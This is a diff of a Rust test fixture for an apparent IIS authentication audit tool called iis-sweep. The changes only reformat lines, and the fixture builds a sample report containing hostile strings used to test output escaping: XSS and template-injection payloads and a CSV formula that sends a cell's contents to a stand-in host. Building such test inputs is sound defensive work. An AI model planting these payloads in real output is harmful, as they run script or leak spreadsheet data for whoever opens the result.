@@ -16,7 +16,14 @@ pub const XSS_MUSTACHE: &str = "{{constructor.constructor('window.__pwned=3')()}
 pub const EVIL_HOST: &str = "<script>window.__pwned=4</script>evil01";
 pub const CSV_FORMULA: &str = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
 
-fn rule(code: &str, name: &str, title: &str, sub: &[Substatus], sev: Severity, refs: &[&str]) -> RuleInfo {
+fn rule(
+    code: &str,
+    name: &str,
+    title: &str,
+    sub: &[Substatus],
+    sev: Severity,
+    refs: &[&str],
+) -> RuleInfo {
     RuleInfo {
         code: code.into(),
         name: name.into(),
@@ -24,7 +31,13 @@ fn rule(code: &str, name: &str, title: &str, sub: &[Substatus], sev: Severity, r
         substatus: sub.to_vec(),
         severity: sev,
         what: format!("Checks that {title}."),
-        why: format!("When {title}, users get {}.", sub.iter().map(|s| s.as_str()).collect::<Vec<_>>().join(" or ")),
+        why: format!(
+            "When {title}, users get {}.",
+            sub.iter()
+                .map(|s| s.as_str())
+                .collect::<Vec<_>>()
+                .join(" or ")
+        ),
         example: "<anonymousAuthentication enabled=\"false\" />".into(),
         fix: "Enable an authentication method for the path.".into(),
         references: refs.iter().map(|s| s.to_string()).collect(),
@@ -69,7 +82,12 @@ pub fn rules() -> Vec<RuleInfo> {
 }
 
 fn ev_config(path: &str, line: u32, text: &str) -> Evidence {
-    Evidence { kind: EvidenceKind::Config, location: Some(path.into()), line: Some(line), text: text.into() }
+    Evidence {
+        kind: EvidenceKind::Config,
+        location: Some(path.into()),
+        line: Some(line),
+        text: text.into(),
+    }
 }
 
 #[allow(clippy::too_many_arguments)]
@@ -111,15 +129,25 @@ fn host(name: &str, status: HostStatus, reason: Option<&str>, rules: &[RuleInfo]
         name: name.into(),
         status,
         reason: reason.map(Into::into),
-        source: format!("snapshots/{}.json", name.replace(['<', '>', '/', '=', '\''], "_")),
+        source: format!(
+            "snapshots/{}.json",
+            name.replace(['<', '>', '/', '=', '\''], "_")
+        ),
         os: evaluated.then(|| "Windows Server 2022 Datacenter".to_string()),
         iis_version: evaluated.then(|| "10.0".to_string()),
         collected_at: evaluated.then(|| "2026-03-01T09:58:30Z".to_string()),
-        timings: Timings { collect_ms: Some(1830), analyze_ms: 12 },
+        timings: Timings {
+            collect_ms: Some(1830),
+            analyze_ms: 12,
+        },
         sites: if evaluated { 2 } else { 0 },
         applications: if evaluated { 3 } else { 0 },
         findings: 0,
-        rules_evaluated: if evaluated { rules.iter().map(|r| r.code.clone()).collect() } else { Vec::new() },
+        rules_evaluated: if evaluated {
+            rules.iter().map(|r| r.code.clone()).collect()
+        } else {
+            Vec::new()
+        },
         not_evaluated: Vec::new(),
         problems: Vec::new(),
         log_401: BTreeMap::new(),
@@ -129,7 +157,11 @@ fn host(name: &str, status: HostStatus, reason: Option<&str>, rules: &[RuleInfo]
 fn base_report(hosts: Vec<HostResult>, findings: Vec<Finding>) -> Report {
     let mut r = Report {
         schema: REPORT_SCHEMA.into(),
-        tool: ToolInfo { name: "iis-sweep".into(), version: "0.1.0".into(), ruleset: "2026.11.1".into() },
+        tool: ToolInfo {
+            name: "iis-sweep".into(),
+            version: "0.1.0".into(),
+            ruleset: "2026.11.1".into(),
+        },
         run: RunInfo {
             command: "check".into(),
             started: "2026-03-01T10:00:00Z".into(),
@@ -146,7 +178,11 @@ fn base_report(hosts: Vec<HostResult>, findings: Vec<Finding>) -> Report {
         notes: Vec::new(),
     };
     for h in &mut r.hosts {
-        h.findings = r.findings.iter().filter(|f| f.host == h.name && f.waived.is_none()).count() as u32;
+        h.findings = r
+            .findings
+            .iter()
+            .filter(|f| f.host == h.name && f.waived.is_none())
+            .count() as u32;
     }
     r.sort();
     r.recompute_totals();
@@ -158,14 +194,37 @@ pub fn report() -> Report {
     let rs = rules();
     let (u101, u201, u301, h901) = (&rs[0], &rs[1], &rs[2], &rs[3]);
     let mut web01 = host("web01.corp.example", HostStatus::Ok, None, &rs);
-    web01.log_401.insert("1".into(), BTreeMap::from([("401.2/5".to_string(), 12), ("401.3/5".to_string(), 4)]));
-    let mut web02 = host("web02.corp.example", HostStatus::Partial, Some("folder ACLs could not be read"), &rs);
+    web01.log_401.insert(
+        "1".into(),
+        BTreeMap::from([("401.2/5".to_string(), 12), ("401.3/5".to_string(), 4)]),
+    );
+    let mut web02 = host(
+        "web02.corp.example",
+        HostStatus::Partial,
+        Some("folder ACLs could not be read"),
+        &rs,
+    );
     web02.rules_evaluated.retain(|c| c != "U301");
-    web02.not_evaluated.push(NotEvaluated { rule: "U301".into(), reason: "not collected: folder ACLs".into() });
-    web02.problems.push(r"C:\inetpub\intranet: access denied reading the security descriptor".into());
+    web02.not_evaluated.push(NotEvaluated {
+        rule: "U301".into(),
+        reason: "not collected: folder ACLs".into(),
+    });
+    web02
+        .problems
+        .push(r"C:\inetpub\intranet: access denied reading the security descriptor".into());
     let evil = host(EVIL_HOST, HostStatus::Ok, None, &rs);
-    let web03 = host("web03.corp.example", HostStatus::Unreachable, Some("connection refused (tcp/5986)"), &rs);
-    let app01 = host("app01.corp.example", HostStatus::AuthFailed, Some("HTTP 401 from WinRM: credentials rejected"), &rs);
+    let web03 = host(
+        "web03.corp.example",
+        HostStatus::Unreachable,
+        Some("connection refused (tcp/5986)"),
+        &rs,
+    );
+    let app01 = host(
+        "app01.corp.example",
+        HostStatus::AuthFailed,
+        Some("HTTP 401 from WinRM: credentials rejected"),
+        &rs,
+    );
 
     let mut f1 = finding(
         u201,
@@ -175,8 +234,16 @@ pub fn report() -> Report {
         Some("/"),
         "No authentication method is enabled for /, so every request gets 401.2.",
         vec![
-            ev_config(r"C:\Windows\System32\inetsrv\config\applicationHost.config", 212, "<anonymousAuthentication enabled=\"false\" />"),
-            ev_config(r"C:\inetpub\wwwroot\web.config", 7, "<windowsAuthentication enabled=\"false\" />"),
+            ev_config(
+                r"C:\Windows\System32\inetsrv\config\applicationHost.config",
+                212,
+                "<anonymousAuthentication enabled=\"false\" />",
+            ),
+            ev_config(
+                r"C:\inetpub\wwwroot\web.config",
+                7,
+                "<windowsAuthentication enabled=\"false\" />",
+            ),
         ],
         r#"%windir%\system32\inetsrv\appcmd.exe set config "Default Web Site/" -section:system.webServer/security/authentication/windowsAuthentication /enabled:"True" /commit:apphost"#,
         "6f1c2a9e0b7d4e5f8a9b0c1d2e3f40516273849a5b6c7d8e9f00112233445566",
@@ -231,8 +298,14 @@ pub fn report() -> Report {
         Some(XSS_MUSTACHE),
         Some(XSS_IMG),
         Some("/<b>bold</b>"),
-        &format!("Message with {XSS_SCRIPT} and {XSS_IMG} and {XSS_MUSTACHE}\u{1}\u{FFFE}\u{2028}end"),
-        vec![ev_config(&format!(r"C:\inetpub\{XSS_IMG}\web.config"), 3, XSS_SCRIPT)],
+        &format!(
+            "Message with {XSS_SCRIPT} and {XSS_IMG} and {XSS_MUSTACHE}\u{1}\u{FFFE}\u{2028}end"
+        ),
+        vec![ev_config(
+            &format!(r"C:\inetpub\{XSS_IMG}\web.config"),
+            3,
+            XSS_SCRIPT,
+        )],
         CSV_FORMULA,
         "2222222222222222222222222222222222222222222222222222222222222222",
     );
@@ -243,11 +316,18 @@ pub fn report() -> Report {
         Some("/"),
         Some("/"),
         "Basic authentication is enabled on an http binding (port 80).",
-        vec![ev_config(r"C:\Windows\System32\inetsrv\config\applicationHost.config", 340, "<basicAuthentication enabled=\"true\" />")],
+        vec![ev_config(
+            r"C:\Windows\System32\inetsrv\config\applicationHost.config",
+            340,
+            "<basicAuthentication enabled=\"true\" />",
+        )],
         "-Remove the http binding or require SSL",
         "3333333333333333333333333333333333333333333333333333333333333333",
     );
-    base_report(vec![web01, web02, evil, web03, app01], vec![f1, f2, f3, f4, f5])
+    base_report(
+        vec![web01, web02, evil, web03, app01],
+        vec![f1, f2, f3, f4, f5],
+    )
 }
 
 /// The fixed report compared with a baseline: f5 is new, the rest unchanged, and one baseline
@@ -255,7 +335,9 @@ pub fn report() -> Report {
 pub fn report_with_baseline() -> Report {
     let mut current = report();
     let mut baseline = report();
-    baseline.findings.retain(|f| f.fingerprint != "3333333333333333333333333333333333333333333333333333333333333333");
+    baseline.findings.retain(|f| {
+        f.fingerprint != "3333333333333333333333333333333333333333333333333333333333333333"
+    });
     let rs = rules();
     let gone = finding(
         &rs[2],
